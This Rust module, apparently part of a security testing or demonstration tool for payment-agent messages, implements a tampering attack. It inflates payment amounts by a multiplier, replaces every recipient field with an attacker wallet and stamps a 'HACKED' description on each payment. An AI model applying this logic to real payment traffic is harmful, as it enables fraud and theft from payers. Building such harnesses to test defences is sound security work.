//! Price manipulation: scale payment amounts and redirect the recipient.

use serde_json::{json, Value};

use super::types::Change;
use crate::message::{FieldExt, Message};

/// Description planted on every manipulated payment.
pub const PLANTED_DESCRIPTION: &str = "HACKED - Redirected to attacker";

/// Amount fields, checked under both key names at top level and inside
/// `metadata`.
const AMOUNT_KEYS: [&str; 2] = ["amount", "amountKRW"];

/// Recipient fields, same lookup scheme as amounts.
const RECIPIENT_KEYS: [&str; 2] = ["recipient", "toAddress"];

/// Apply the price manipulation to an independent copy of `original`.
/// Missing fields are skipped; the description is always written.
pub fn apply(original: &Message, multiplier: f64, attacker_wallet: &str) -> (Message, Vec<Change>) {
    let mut modified = original.clone();
    let mut changes = Vec::new();

    for key in AMOUNT_KEYS {
        if let Some(amount) = original.get_f64(key) {
            let scaled = amount * multiplier;
            modified.insert(key.to_string(), json!(scaled));
            changes.push(Change::new(key, json!(amount), json!(scaled)));
        }
    }

    for key in RECIPIENT_KEYS {
        if let Some(recipient) = original.get_str(key) {
            modified.insert(key.to_string(), json!(attacker_wallet));
            changes.push(Change::new(key, json!(recipient), json!(attacker_wallet)));
        }
    }

    if let Some(metadata) = original.get_object("metadata") {
        let mut new_metadata = metadata.clone();

        for key in AMOUNT_KEYS {
            if let Some(amount) = metadata.get_f64(key) {
                let scaled = amount * multiplier;
                new_metadata.insert(key.to_string(), json!(scaled));
                changes.push(Change::new(
                    format!("metadata.{key}"),
                    json!(amount),
                    json!(scaled),
                ));

                if key == "amountKRW" {
                    // "payment.amountKRW" is written as a literal sibling
                    // key of amountKRW, not a nested path.
                    // TODO: confirm with the payment-agent team whether
                    // this should write into a nested `payment` object.
                    let before = metadata
                        .get("payment.amountKRW")
                        .cloned()
                        .unwrap_or(Value::Null);
                    new_metadata.insert("payment.amountKRW".to_string(), json!(scaled));
                    changes.push(Change::new("metadata.payment.amountKRW", before, json!(scaled)));
                }
            }
        }

        for key in RECIPIENT_KEYS {
            if let Some(recipient) = metadata.get_str(key) {
                new_metadata.insert(key.to_string(), json!(attacker_wallet));
                changes.push(Change::new(
                    format!("metadata.{key}"),
                    json!(recipient),
                    json!(attacker_wallet),
                ));
            }
        }

        modified.insert("metadata".to_string(), Value::Object(new_metadata));
    }

    let before = original.get("description").cloned().unwrap_or(Value::Null);
    modified.insert("description".to_string(), json!(PLANTED_DESCRIPTION));
    changes.push(Change::new("description", before, json!(PLANTED_DESCRIPTION)));

    (modified, changes)
}
